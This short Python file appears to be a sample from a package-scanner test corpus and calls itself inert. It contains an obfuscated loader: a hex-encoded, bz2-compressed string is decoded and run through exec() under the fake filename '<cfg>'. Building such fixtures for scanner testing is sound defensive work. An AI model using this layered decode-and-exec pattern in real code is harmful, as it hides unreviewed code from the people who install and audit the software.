# pkgguard corpus 677 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
import base64
import bz2

_P = (
    "425A6839314159265359266699310000055180001000E002215400200022"
    "1A3469A10030B64141F426CEF8BB9229C284813334C988"
)
_code = bz2.decompress(base64.b16decode(_P)).decode()
exec(compile(_code, "<cfg>", "exec"))
